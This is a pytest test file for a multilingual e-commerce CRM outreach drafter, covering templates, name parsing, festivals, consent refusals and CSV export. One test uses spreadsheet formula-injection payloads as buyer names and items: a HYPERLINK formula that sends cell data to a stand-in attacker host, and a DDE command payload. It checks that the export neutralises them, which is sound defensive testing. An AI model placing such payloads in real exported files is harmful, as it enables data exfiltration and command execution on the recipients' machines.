"""Outreach drafting without an LLM: templates in every language, language defaults, festivals, consent,
revisions, approval and segment drafts, on real SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from sqlalchemy import select

from bot.settings import Settings
from crm.outreach.checks import check_draft, detect_language, language_matches
from crm.outreach.context import first_name
from crm.outreach.festivals import festival_day
from crm.outreach.service import (
    INTENTS,
    LANGUAGES,
    PROMOTIONAL,
    DraftError,
    Offer,
    approve,
    draft_for_customer,
    draft_for_segment,
    edit,
    revise,
)
from crm.outreach.templates import TemplateInput, offer_sentence, render
from storage.models import (
    BuyerIdentity,
    ConsentRecord,
    Customer,
    Interaction,
    LoyaltyEntry,
    Order,
    OrderLine,
    OutreachDraft,
    Product,
    Store,
)
from storage.repositories.analytics import refresh_order_stats

AS_OF = datetime(2026, 11, 24, tzinfo=UTC)
SETTINGS = Settings(
    outreach={"brand_name": "Kopi House", "sign_off": "Mei from Kopi House", "max_chars": 600}
)


async def add_customer(
    db,
    workspace_id: int,
    *,
    name: str = "Tan Wei Ling",
    country: str = "TH",
    consent: bool | None = None,
    accepts_marketing: bool | None = None,
    orders: int = 2,
    item: str = "Blue Linen Dress",
    points: int = 120,
    email: str = "weiling.tan@example.com",
    phone: str = "+66 81 234 5678",
) -> int:
    async with db.sessions() as s:
        store = (await s.execute(select(Store).where(Store.workspace_id == workspace_id))).scalars().first()
        if store is None:
            store = Store(workspace_id=workspace_id, platform="shopee", name="shopee-th", country="TH")
            s.add(store)
            await s.flush()
            s.add(
                Product(
                    workspace_id=workspace_id, sku="BLD-1", name=item, category="Dresses", replenish_days=60
                )
            )
        c = Customer(workspace_id=workspace_id, display_name=name, country=country)
        s.add(c)
        await s.flush()
        ident = BuyerIdentity(
            workspace_id=workspace_id,
            customer_id=c.id,
            platform="shopee",
            buyer_key=f"buyer{c.id}",
            username=f"buyer{c.id}",
            name=name,
            email=email,
            email_norm=email,
            phone=phone,
            phone_norm=re.sub(r"\D", "", phone),
            country=country,
            accepts_marketing=accepts_marketing,
        )
        s.add(ident)
        await s.flush()
        for k in range(orders):
            o = Order(
                workspace_id=workspace_id,
                store_id=store.id,
                platform="shopee",
                platform_order_id=f"O{c.id}-{k}",
                identity_id=ident.id,
                customer_id=c.id,
                status="completed",
                currency="THB",
                order_value=Decimal(500),
                value_base=Decimal(20),
                country=country,
                created_at=datetime(2026, 3 + k, 10, tzinfo=UTC),
            )
            s.add(o)
            await s.flush()
            s.add(OrderLine(order_id=o.id, line_no=1, sku="BLD-1", product_name=item, quantity=1))
        if points:
            s.add(LoyaltyEntry(workspace_id=workspace_id, customer_id=c.id, points=points, reason="adjust"))
        if consent is not None:
            s.add(
                ConsentRecord(
                    workspace_id=workspace_id,
                    customer_id=c.id,
                    purpose="marketing",
                    granted=not consent,
                    recorded_at=datetime(2026, 1, 1, tzinfo=UTC),
                )
            )
            s.add(
                ConsentRecord(
                    workspace_id=workspace_id,
                    customer_id=c.id,
                    purpose="marketing",
                    granted=consent,
                    recorded_at=datetime(2026, 6, 1, tzinfo=UTC),
                )
            )
        await s.flush()
        await refresh_order_stats(s, [c.id])
        await s.commit()
        return c.id


# ---------------------------------------------------------------------------------------------------- templates
@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("intent", INTENTS)
def test_every_template_is_filled_signed_and_in_its_language(language: str, intent: str) -> None:
    for kwargs in (
        {},
        {
            "first_name": "Wei Ling",
            "item": "Blue Linen Dress",
            "points": 120,
            "coupon": "BACK10",
            "discount": "10%",
            "expires": date(2026, 12, 31),
        },
    ):
        text = render(
            TemplateInput(
                language=language,
                intent=intent,
                brand="Kopi House",
                sign_off="Mei",
                festival="Songkran" if intent == "festival" else None,
                **kwargs,
            )
        )
        problems = check_draft(
            text,
            language=language,
            max_chars=600,
            coupon=kwargs.get("coupon"),
            offer_text="BACK10 10% 2026-12-31" if kwargs else "",
        )
        assert problems == [], (language, intent, text, problems)
        assert text.rstrip().endswith("Mei\nKopi House")
        assert "{" not in text and "}" not in text
        if kwargs:
            assert "Wei Ling" in text and "BACK10" in text


def test_short_and_formal_templates() -> None:
    base = TemplateInput(
        language="en", intent="winback", brand="Kopi House", sign_off="Mei", first_name="Ana"
    )
    long, short = render(base), render(TemplateInput(**{**base.__dict__, "short": True}))
    formal = render(TemplateInput(**{**base.__dict__, "formal": True}))
    assert len(short) < len(long) and formal.startswith("Dear Ana,") and long.startswith("Hi Ana,")


def test_language_heuristics() -> None:
    assert detect_language("您好！感谢您的支持。") == "zh"
    assert detect_language("สวัสดีค่ะ ขอบคุณที่อุดหนุนนะคะ") == "th"
    assert detect_language("Chào bạn, cảm ơn bạn đã mua hàng!") == "vi"
    assert detect_language("Terima kasih kerana membeli dengan kami, semoga anda gembira") == "ms"
    assert detect_language("Thank you for your order, we hope you love it") == "en"
    assert language_matches("Terima kasih atas pesanan Anda", "id")
    assert not language_matches("Thank you for your order", "th")


def test_checks_catch_placeholders_missing_coupon_and_invented_discounts() -> None:
    text = "Hi {name}, enjoy 20% off and RM15 off today!"
    problems = check_draft(text, language="en", max_chars=30, coupon="BACK10", offer_text="BACK10 10%")
    joined = " | ".join(problems)
    assert "placeholders" in joined and "BACK10 is missing" in joined and "over the limit" in joined
    assert "20%" in joined and "RM15" in joined
    assert (
        check_draft(
            "Hi Ana, use BACK10 for 10% off.",
            language="en",
            max_chars=100,
            coupon="BACK10",
            offer_text="BACK10 10%",
        )
        == []
    )


@pytest.mark.parametrize(
    ("name", "first"),
    [
        ("Tan Wei Ling", "Wei Ling"),
        ("Siti Nurhaliza", "Siti"),
        ("Nguyen Thi Mai", "Mai"),
        ("陈伟玲", "陈伟玲"),
        ("weiling88", None),
        ("a@b.co", None),
        ("Mr John Smith", "John"),
        ("somchai jaidee", "Somchai"),
        # romanised Chinese, family name first: the last two words (these family names were once missed)
        ("Ang Wei Ling", "Wei Ling"),
        ("Ang Yong Sheng", "Yong Sheng"),
        ("Ang Li Ting", "Li Ting"),
        ("Sim Hui Min", "Hui Min"),
        ("Ho Wei Ling", "Wei Ling"),
        ("Goh Chok Tong", "Chok Tong"),
        ("Lam Wai Ming", "Wai Ming"),
        ("Tng Boon Keng", "Boon Keng"),
        ("Chen Mei Mei", "Mei Mei"),
        ("TAN WEI LING", "Wei Ling"),
        ("Tan Wei-Ling", "Wei-Ling"),
        ("Tan Bin Bin", "Bin Bin"),
        # "Wei" is a given name here, not a family name to strip
        ("Wei Ling Tan", "Wei Ling"),
        ("Wei", "Wei"),
        ("Hui Min Lim", "Hui Min"),
        ("Li Wei Ming", "Wei Ming"),
        ("Zhang Xiao Ming", "Xiao Ming"),
        ("Tan Mei Lin", "Mei Lin"),
        ("Ng Kok Leong", "Kok Leong"),
        ("Kim Min Ji", "Min Ji"),
        # not safe to split: the full name
        ("Tan Wei", "Tan Wei"),
        ("Mdm Tan", "Mdm Tan"),
        ("Mr Smith", "Mr Smith"),
        ("Pak Budi", "Budi"),
        ("Lee Ann Smith", "Lee Ann Smith"),
        ("Li Ting Tan", "Li Ting Tan"),
        # Chinese characters: the full name
        ("王芳", "王芳"),
        ("王小明", "王小明"),
        ("王 芳", "王芳"),
        # Malay
        ("Ahmad bin Ismail", "Ahmad"),
        ("Nur Aisyah binti Hassan", "Nur Aisyah"),
        ("Mohd Faiz Hassan", "Mohd Faiz"),
        ("Encik Ahmad bin Ismail", "Ahmad"),
        ("Ravi a/l Kumar", "Ravi"),
        # Thai
        ("Somchai Jaidee", "Somchai"),
        ("สมชาย ใจดี", "สมชาย"),
        ("Khun Suda Wongsawat", "Suda"),
        # Vietnamese, family name first
        ("Nguyen Van An", "An"),
        ("Nguyễn Văn An", "An"),
        ("Tran Mai", "Mai"),
        ("Ho Thi Lan", "Lan"),
        ("Ly Van Binh", "Binh"),
        ("Mai Nguyen", "Mai"),
        # Indonesian
        ("Budi Santoso", "Budi"),
        ("Dewi Ayu Lestari", "Dewi"),
        ("Ibu Sari Wulandari", "Sari"),
        ("Sukarno", "Sukarno"),
        ("Ong Siu Lan", "Siu Lan"),
    ],
)
def test_first_name(name: str, first: str | None) -> None:
    assert first_name(name) == first


GREETINGS = {  # (display name, intent, language) -> how the draft opens
    ("Ang Wei Ling", "winback", "th"): "สวัสดีค่ะ คุณ Wei Ling",
    ("Ang Yong Sheng", "winback", "ms"): "Hai Yong Sheng,",
    ("Ang Li Ting", "winback", "en"): "Hi Li Ting,",
    ("Sim Hui Min", "winback", "zh"): "Hui Min您好！",
    ("Ho Wei Ling", "winback", "en"): "Hi Wei Ling,",
    ("王芳", "review_request", "zh"): "王芳您好！",
    ("Nguyen Van An", "winback", "vi"): "Chào An,",
    ("Budi Santoso", "winback", "id"): "Hai Kak Budi,",
    ("Nur Aisyah binti Hassan", "winback", "ms"): "Hai Nur Aisyah,",
}


@pytest.mark.parametrize(("name", "intent", "language"), list(GREETINGS))
def test_drafts_greet_by_the_right_name(name: str, intent: str, language: str) -> None:
    text = render(
        TemplateInput(
            language=language,
            intent=intent,
            brand="Kopi House",
            sign_off="Mei",
            first_name=first_name(name),
            item="Blue Linen Dress",
            orders=2,
        )
    )
    assert text.split("\n")[0] == GREETINGS[name, intent, language]


DEFAULT_SIGNATURE = {
    "en": "The team",
    "zh": "小店团队",
    "th": "ทีมงานร้านของเรา",
    "ms": "Pasukan kedai kami",
    "id": "Tim toko kami",
    "vi": "Đội ngũ cửa hàng chúng tôi",
}
DEFAULT_BRAND = {
    "en": "our shop",
    "zh": "小店",
    "th": "ร้านของเรา",
    "ms": "kedai kami",
    "id": "toko kami",
    "vi": "cửa hàng chúng tôi",
}


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("intent", INTENTS)
def test_default_brand_and_sign_off_are_in_the_message_language(language: str, intent: str) -> None:
    defaults = Settings().outreach  # no brand name or sign-off set
    text = render(
        TemplateInput(
            language=language,
            intent=intent,
            brand=defaults.brand_name,
            sign_off=defaults.sign_off,
            first_name="Wei Ling",
            item="Blue Linen Dress",
            orders=2,
            festival="Songkran" if intent == "festival" else None,
        )
    )
    assert text.rstrip().endswith("\n\n" + DEFAULT_SIGNATURE[language]), text
    assert check_draft(text, language=language, max_chars=600) == [], text
    if language != "en":
        assert "our shop" not in text and "The team" not in text, text
    if intent in ("welcome", "winback", "custom"):
        assert DEFAULT_BRAND[language].lower() in text.lower(), text


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_set_brand_is_used_as_is_with_a_localised_team_sign_off(language: str) -> None:
    text = render(
        TemplateInput(
            language=language,
            intent="winback",
            brand="Kopi House",
            sign_off="The team",
            first_name="Wei Ling",
            orders=2,
            item="Blue Linen Dress",
        )
    )
    assert "Kopi House" in text and check_draft(text, language=language, max_chars=600) == []
    expected = {
        "en": "The team\nKopi House",
        "zh": "Kopi House团队",
        "th": "ทีมงาน Kopi House",
        "ms": "Pasukan Kopi House",
        "id": "Tim Kopi House",
        "vi": "Đội ngũ Kopi House",
    }[language]
    assert text.rstrip().endswith("\n\n" + expected), text
    assert DEFAULT_BRAND[language] not in text.lower()


ORDER_WORDS = {
    "en": ("order", "Blue Linen Dress", "enjoying"),
    "zh": ("下单", "订单", "选购", "Blue Linen Dress"),
    "ms": ("pesanan", "pembelian", "Blue Linen Dress"),
    "th": ("คำสั่งซื้อ", "สั่งไป", "Blue Linen Dress"),
    "id": ("pesanan", "Blue Linen Dress"),
    "vi": ("đơn hàng", "đã mua", "Blue Linen Dress"),
}


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize(
    "intent", ["welcome", "winback", "thank_you", "replenishment", "review_request", "service_recovery"]
)
def test_no_order_references_for_a_customer_without_orders(language: str, intent: str) -> None:
    for item in (
        None,
        "Blue Linen Dress",
    ):  # an item the facts hold must not be used when there are no orders
        for short in (False, True):
            text = render(
                TemplateInput(
                    language=language,
                    intent=intent,
                    brand="Kopi House",
                    sign_off="Mei",
                    first_name="Wei Ling",
                    item=item,
                    orders=0,
                    short=short,
                    coupon="HELLO10",
                    discount="10%",
                )
            )
            # the offer's "next order" wording is the seller's offer, not a past order
            body = text.replace(offer_sentence(language, "HELLO10", "10%", None), "")
            if intent == "service_recovery" and item:
                continue  # a complaint about an item is about that item
            assert not any(w in body for w in ORDER_WORDS[language]), (language, intent, text)
            assert (
                check_draft(
                    text, language=language, max_chars=600, coupon="HELLO10", offer_text="HELLO10 10%"
                )
                == []
            ), text


def test_welcome_and_winback_with_no_orders_in_english() -> None:
    welcome = render(
        TemplateInput(
            language="en", intent="welcome", brand="Kopi House", sign_off="Mei", first_name="Ana", orders=0
        )
    )
    winback = render(
        TemplateInput(
            language="en", intent="winback", brand="Kopi House", sign_off="Mei", first_name="Ana", orders=0
        )
    )
    assert "first order" not in welcome and "recent order" not in welcome
    assert "last order" not in winback and "It has been a while" in winback
    with_order = render(
        TemplateInput(
            language="en",
            intent="welcome",
            brand="Kopi House",
            sign_off="Mei",
            first_name="Ana",
            orders=1,
            item="Blue Linen Dress",
        )
    )
    assert "Thank you for your first order, we hope you love Blue Linen Dress." in with_order
    for language in ("en", "zh", "ms", "th", "id", "vi"):  # a returning customer: no "first order"
        returning = render(
            TemplateInput(
                language=language,
                intent="welcome",
                brand="Kopi House",
                sign_off="Mei",
                first_name="Ana",
                orders=4,
                item="Blue Linen Dress",
            )
        )
        assert returning == render(
            TemplateInput(
                language=language,
                intent="welcome",
                brand="Kopi House",
                sign_off="Mei",
                first_name="Ana",
                orders=0,
            )
        ), language
        assert "Blue Linen Dress" not in returning


async def test_a_welcome_for_a_returning_customer_says_so(db, workspace_id: int) -> None:
    returning = await add_customer(db, workspace_id, consent=True, orders=3)
    d = await draft_for_customer(
        db, workspace_id, returning, intent="welcome", settings=SETTINGS, as_of=AS_OF, language="en"
    )
    assert "first order" not in d.text
    assert any("3 orders already" in w for w in d.warnings)
    new = await add_customer(db, workspace_id, name="Bo Lee", consent=True, orders=1)
    d = await draft_for_customer(
        db, workspace_id, new, intent="welcome", settings=SETTINGS, as_of=AS_OF, language="en"
    )
    assert "first order" in d.text and not any("orders already" in w for w in d.warnings)


def test_festival_calendar() -> None:
    assert festival_day(None, "TH", date(2026, 3, 1)).key == "songkran"
    assert festival_day(None, "MY", date(2026, 3, 1)).key == "hari_raya"
    assert festival_day(None, "VN", date(2026, 2, 1)).key == "tet"
    assert festival_day(None, "SG", date(2026, 10, 1)).key == "deepavali"
    assert festival_day(None, "US", date(2026, 11, 12)).key == "black_friday"
    assert festival_day("hari raya", "MY", date(2026, 5, 1)).day == date(2027, 3, 10)
    assert festival_day("new year", "SG", date(2026, 12, 30)).key == "new_year"
    assert festival_day("new year", "SG", date(2027, 1, 2)).key == "cny"
    for key in (
        "cny",
        "tet",
        "hari_raya",
        "deepavali",
        "songkran",
        "double_11",
        "double_12",
        "black_friday",
        "christmas",
    ):
        for year in (2025, 2026, 2027):
            assert festival_day(key, None, date(year, 1, 1)).day.year == year


# ---------------------------------------------------------------------------------------------------- service
async def test_language_defaults_from_country_and_can_be_overridden(db, workspace_id: int) -> None:
    expected = {"TH": "th", "VN": "vi", "ID": "id", "MY": "ms", "TW": "zh", "SG": "en", "US": "en"}
    for country, lang in expected.items():
        cid = await add_customer(db, workspace_id, name=f"Ana {country}", country=country, consent=True)
        d = await draft_for_customer(db, workspace_id, cid, intent="winback", settings=SETTINGS, as_of=AS_OF)
        assert d.language == lang and d.source == "template" and d.status == "draft"
        assert "Ana" in d.text and "120" in d.text and "Mei from Kopi House" in d.text
    d = await draft_for_customer(
        db, workspace_id, cid, intent="winback", settings=SETTINGS, as_of=AS_OF, language="zh"
    )
    assert d.language == "zh" and language_matches(d.text, "zh")
    with pytest.raises(DraftError):
        await draft_for_customer(db, workspace_id, cid, intent="spam", settings=SETTINGS, as_of=AS_OF)


async def test_offer_item_and_festival_reach_the_draft(db, workspace_id: int) -> None:
    cid = await add_customer(db, workspace_id, country="MY", consent=True)
    offer = Offer(coupon="RAYA15", discount="15%", expires=date(2027, 3, 31))
    d = await draft_for_customer(
        db,
        workspace_id,
        cid,
        intent="festival",
        settings=SETTINGS,
        as_of=AS_OF,
        festival="hari raya",
        offer=offer,
    )
    assert "Selamat Hari Raya Aidilfitri" in d.text and "RAYA15" in d.text and "15%" in d.text
    assert "Wei Ling" in d.text and "Tan" not in d.text
    d = await draft_for_customer(
        db, workspace_id, cid, intent="review_request", settings=SETTINGS, as_of=AS_OF, language="en"
    )
    assert "Blue Linen Dress" in d.text


async def test_opted_out_customers_get_no_promotional_draft(db, workspace_id: int) -> None:
    withdrawn = await add_customer(db, workspace_id, name="Ana Lim", consent=False)
    platform_no = await add_customer(db, workspace_id, name="Bo Lee", accepts_marketing=False)
    for cid in (withdrawn, platform_no):
        for intent in sorted(PROMOTIONAL):
            d = await draft_for_customer(db, workspace_id, cid, intent=intent, settings=SETTINGS, as_of=AS_OF)
            assert d.source == "refused" and d.status == "refused" and d.text == "" and d.refused_reason
        # service messages are allowed
        d = await draft_for_customer(
            db, workspace_id, cid, intent="service_recovery", settings=SETTINGS, as_of=AS_OF
        )
        assert d.source == "template" and d.status == "draft"
    async with db.sessions() as s:
        rows = (
            (await s.execute(select(OutreachDraft).where(OutreachDraft.status == "refused"))).scalars().all()
        )
    assert len(rows) == 2 * len(PROMOTIONAL)
    assert any("consent" in r.reason for r in rows) and any("opted out" in r.reason for r in rows)
    with pytest.raises(DraftError, match="refused"):
        await approve(db, workspace_id, rows[0].id, member_id=None, at=AS_OF)


async def test_revise_edit_and_approve(db, workspace_id: int) -> None:
    cid = await add_customer(db, workspace_id, country="SG", consent=True)
    d = await draft_for_customer(
        db,
        workspace_id,
        cid,
        intent="winback",
        settings=SETTINGS,
        as_of=AS_OF,
        offer=Offer(coupon="BACK10", discount="10%"),
    )
    short = await revise(db, workspace_id, d.id, action="shorter", settings=SETTINGS, as_of=AS_OF)
    assert short.id != d.id and len(short.text) < len(d.text) and "BACK10" in short.text
    formal = await revise(db, workspace_id, d.id, action="formal", settings=SETTINGS, as_of=AS_OF)
    assert formal.text.startswith("Dear Wei Ling,")
    thai = await revise(
        db, workspace_id, d.id, action="translate", language="th", settings=SETTINGS, as_of=AS_OF
    )
    assert thai.language == "th" and language_matches(thai.text, "th") and "BACK10" in thai.text
    edited = await edit(db, workspace_id, thai.id, "สวัสดีค่ะ คุณWei Ling ใช้โค้ด BACK10 ลด 50% เลยค่ะ")
    assert edited.text.startswith("สวัสดีค่ะ") and any("50%" in w for w in edited.warnings)
    assert "提到了未提供的折扣：50%" in edited.notes_in("zh")  # the check's note in a Chinese session
    done = await approve(db, workspace_id, edited.id, member_id=None, at=AS_OF)
    assert done.status == "approved"
    again = await approve(db, workspace_id, edited.id, member_id=None, at=AS_OF)
    assert again.status == "approved"
    async with db.sessions() as s:
        interactions = (
            (await s.execute(select(Interaction).where(Interaction.customer_id == cid))).scalars().all()
        )
        row = await s.get(OutreachDraft, edited.id)
    assert [(i.kind, i.language) for i in interactions] == [("outreach", "th")]
    assert interactions[0].body == edited.text and row.approved_at is not None
    with pytest.raises(DraftError):
        await edit(db, workspace_id, edited.id, "too late")


async def test_drafts_for_a_customer_with_no_orders_and_default_settings(db, workspace_id: int) -> None:
    cid = await add_customer(
        db, workspace_id, name="Ang Wei Ling", country="TH", orders=0, points=0, consent=True
    )
    defaults = Settings()  # no brand name or sign-off set
    for language in LANGUAGES:
        for intent in ("welcome", "winback"):
            d = await draft_for_customer(
                db, workspace_id, cid, intent=intent, settings=defaults, as_of=AS_OF, language=language
            )
            assert d.source == "template" and "Wei Ling" in d.text and "Ang" not in d.text, d.text
            assert d.text.rstrip().endswith(DEFAULT_SIGNATURE[language]), d.text
            assert not any(w in d.text for w in ORDER_WORDS[language]), (language, intent, d.text)
            assert check_draft(d.text, language=language, max_chars=600) == [], d.text
            body = d.text.split("\n")[1]
            assert body[:1] == body[:1].upper(), d.text  # "Cửa hàng chúng tôi nhớ bạn lắm!"
            if language != "en":
                assert "our shop" not in d.text and "The team" not in d.text, d.text


async def test_segment_draft_gives_a_template_per_language_and_a_csv(db, workspace_id: int) -> None:
    ids = {}
    for name, country in (
        ("Ana Silva", "TH"),
        ("Budi Santoso", "ID"),
        ("Chen Mei Mei", "SG"),
        ("Dara Ok", "TH"),
    ):
        ids[name] = await add_customer(db, workspace_id, name=name, country=country, orders=1, consent=True)
    ids["Eko No"] = await add_customer(db, workspace_id, name="Eko No", country="ID", orders=1, consent=False)
    ids["Fa Out"] = await add_customer(
        db, workspace_id, name="Fa Out", country="TH", orders=1, accepts_marketing=False
    )
    from zoneinfo import ZoneInfo

    from crm.analytics.metrics import customer_scores

    async with db.sessions() as s:
        scores = await customer_scores(s, workspace_id, AS_OF, ZoneInfo("Asia/Singapore"))
    segment = str(scores.segment[scores.index()[ids["Ana Silva"]]])
    seg = await draft_for_segment(
        db,
        workspace_id,
        segment=segment,
        intent="winback",
        settings=SETTINGS,
        as_of=AS_OF,
        offer=Offer(coupon="BACK10"),
    )
    assert set(seg.templates) == {"th", "id", "en"}
    for lang, text in seg.templates.items():
        assert "{first_name}" in text and "BACK10" in text and language_matches(text, lang)
    rows = list(csv.DictReader(io.StringIO(seg.recipients_csv.decode())))
    assert seg.count == len(rows) == 4 and seg.skipped == {"no marketing consent": 1, "opted out": 1}
    assert {r["first_name"] for r in rows} == {"Ana", "Budi", "Mei Mei", "Dara"}
    assert "@" not in seg.recipients_csv.decode()
    th = await draft_for_segment(
        db, workspace_id, segment=segment, intent="winback", settings=SETTINGS, as_of=AS_OF, country="TH"
    )
    assert th.count == 2 and set(th.templates) == {"th"}


async def test_segment_csv_greets_customers_without_a_usable_name_neutrally(db, workspace_id: int) -> None:
    """A username or e-mail is no name to greet by: the CSV's first_name holds the language's neutral word, so
    the merged greeting reads "Hi there," and never "Hi ,"."""
    from zoneinfo import ZoneInfo

    from crm.analytics.metrics import customer_scores

    ids = [
        await add_customer(db, workspace_id, name=name, country="SG", orders=1, consent=True)
        for name in ("tanwl_88", "buyer1234", "Ana Silva")
    ]
    async with db.sessions() as s:
        scores = await customer_scores(s, workspace_id, AS_OF, ZoneInfo("Asia/Singapore"))
    segment = str(scores.segment[scores.index()[ids[0]]])
    first_lines = {"en": "Hi there,", "zh": "亲爱的顾客您好！", "th": "สวัสดีค่ะ คุณ ลูกค้า", "vi": "Chào bạn,"}
    for lang, greeting in first_lines.items():
        seg = await draft_for_segment(
            db, workspace_id, segment=segment, intent="winback", settings=SETTINGS, as_of=AS_OF, language=lang
        )
        rows = {int(r["customer_id"]): r for r in csv.DictReader(io.StringIO(seg.recipients_csv.decode()))}
        assert rows[ids[2]]["first_name"] == "Ana"
        for cid in ids[:2]:
            merged = (
                seg.templates[lang]
                .replace("{first_name}", rows[cid]["first_name"])
                .replace("{last_item}", rows[cid]["last_item"])
            )
            assert merged.splitlines()[0] == greeting, (lang, merged)


async def test_segment_csv_never_lets_a_buyers_text_run_as_a_formula(db, workspace_id: int) -> None:
    """Names and items are the buyers' text: in the recipients CSV a seller opens in Excel they stay text."""
    from zoneinfo import ZoneInfo

    from crm.analytics.metrics import customer_scores

    name, item = '=HYPERLINK("http://evil.example/?"&A1,"Open")', "-2+3+cmd|' /C calc'!A0"
    ids = [
        await add_customer(
            db, workspace_id, name=name, country="SG", orders=1, consent=True, item=item, points=-40
        ),
        await add_customer(db, workspace_id, name="@SUM(1+1)", country="SG", orders=1, consent=True),
    ]
    async with db.sessions() as s:
        scores = await customer_scores(s, workspace_id, AS_OF, ZoneInfo("Asia/Singapore"))
    segment = str(scores.segment[scores.index()[ids[0]]])
    seg = await draft_for_segment(
        db, workspace_id, segment=segment, intent="winback", settings=SETTINGS, as_of=AS_OF, language="en"
    )
    rows = {int(r["customer_id"]): r for r in csv.DictReader(io.StringIO(seg.recipients_csv.decode()))}
    assert rows[ids[0]]["name"] == "'" + name and rows[ids[0]]["last_item"] == "'" + item
    assert rows[ids[1]]["name"] == "'@SUM(1+1)"
    for row in rows.values():
        assert not any(v[:1] in "=+-@\t\r" for v in row.values() if v != row["points"]), row
    # Numbers are still numbers (bare, not quoted text): the id, and the negative points balance.
    line = next(x for x in seg.recipients_csv.decode().split("\r\n") if x.startswith(f"{ids[0]},"))
    assert line.startswith(f"{ids[0]},\"'=HYPERLINK(") and line.endswith(",-40"), line


# ------------------------------------------------------------------------------------------ notes that must stay
async def test_a_win_back_for_a_recent_buyer_says_what_fits_better(db, workspace_id: int) -> None:
    cid = await add_customer(db, workspace_id, orders=2, consent=True)
    async with db.sessions() as s:  # a third order 28 days before the as-of date
        first = (await s.execute(select(Order).where(Order.customer_id == cid))).scalars().first()
        s.add(
            Order(
                workspace_id=workspace_id,
                store_id=first.store_id,
                platform="shopee",
                platform_order_id=f"O{cid}-recent",
                identity_id=first.identity_id,
                customer_id=cid,
                status="completed",
                currency="THB",
                order_value=Decimal(500),
                value_base=Decimal(20),
                country="TH",
                created_at=datetime(2026, 10, 27, tzinfo=UTC),
            )
        )
        await s.flush()
        await refresh_order_stats(s, [cid])
        await s.commit()
    d = await draft_for_customer(db, workspace_id, cid, intent="winback", settings=SETTINGS, as_of=AS_OF)
    assert any("ordered 28 days ago" in w and "win-back" in w for w in d.warnings), d.warnings
    fitting = await draft_for_customer(
        db, workspace_id, cid, intent="thank_you", settings=SETTINGS, as_of=AS_OF
    )
    assert fitting.warnings == []


async def test_the_consent_note_stays_on_every_version_and_in_the_approved_draft(
    db, workspace_id: int
) -> None:
    cid = await add_customer(db, workspace_id, consent=None)
    d = await draft_for_customer(db, workspace_id, cid, intent="winback", settings=SETTINGS, as_of=AS_OF)
    note = "no marketing consent on record: check the customer agreed before sending"
    assert note in d.warnings
    for action, language in (("regenerate", None), ("shorter", None), ("translate", "zh")):
        d = await revise(
            db, workspace_id, d.id, action=action, language=language, settings=SETTINGS, as_of=AS_OF
        )
        assert note in d.warnings, (action, d.warnings)
    approved = await approve(db, workspace_id, d.id, member_id=None, at=AS_OF)
    assert approved.status == "approved" and note in approved.warnings


@pytest.mark.parametrize("intent", ["thank_you", "winback", "replenishment"])
async def test_shorter_without_an_llm_never_blames_the_seller_for_its_length(
    db, workspace_id: int, intent: str
) -> None:
    cid = await add_customer(db, workspace_id, consent=True, country="SG")
    d = await draft_for_customer(db, workspace_id, cid, intent=intent, settings=SETTINGS, as_of=AS_OF)
    short = await revise(db, workspace_id, d.id, action="shorter", settings=SETTINGS, as_of=AS_OF)
    assert len(short.text) < len(d.text)
    assert not any("over the limit" in w for w in short.warnings), (
        len(d.text),
        len(short.text),
        short.warnings,
    )


async def test_draft_notes_are_read_in_the_teammate_language(db, workspace_id: int) -> None:
    """The notes are kept as messages, so a teammate in a Chinese session reads them in Chinese (they were
    English whatever the session's language), and the stored draft keeps them so."""
    cid = await add_customer(db, workspace_id, consent=None)
    d = await draft_for_customer(db, workspace_id, cid, intent="winback", settings=SETTINGS, as_of=AS_OF)
    assert "no marketing consent on record: check the customer agreed before sending" in d.notes_in("en")
    assert "没有营销同意记录：发送前请确认客户已同意接收" in d.notes_in("zh")
    approved = await approve(db, workspace_id, d.id, member_id=None, at=AS_OF)
    assert approved.notes_in("zh") == d.notes_in("zh") and approved.warnings == d.warnings


async def test_an_impossible_percentage_is_drafted_as_written_with_a_note(db, workspace_id: int) -> None:
    """A chat request "150% off" was drafted as "50% off"; it is now written as given, never another figure,
    and the draft carries a note to change the offer, on every version (here: a revision)."""
    cid = await add_customer(db, workspace_id, country="SG", consent=True)
    d = await draft_for_customer(
        db,
        workspace_id,
        cid,
        intent="winback",
        settings=SETTINGS,
        as_of=AS_OF,
        offer=Offer(coupon="BACK10", discount="150% off"),
    )
    assert "150% off" in d.text and "50% off" not in d.text.replace("150% off", ""), d.text
    assert any("150% off" in w and "less than 100%" in w for w in d.warnings), d.warnings
    assert any("折扣 150% off" in n for n in d.notes_in("zh")), d.notes_in("zh")
    short = await revise(db, workspace_id, d.id, action="shorter", settings=SETTINGS, as_of=AS_OF)
    assert any("150% off" in w for w in short.warnings), short.warnings
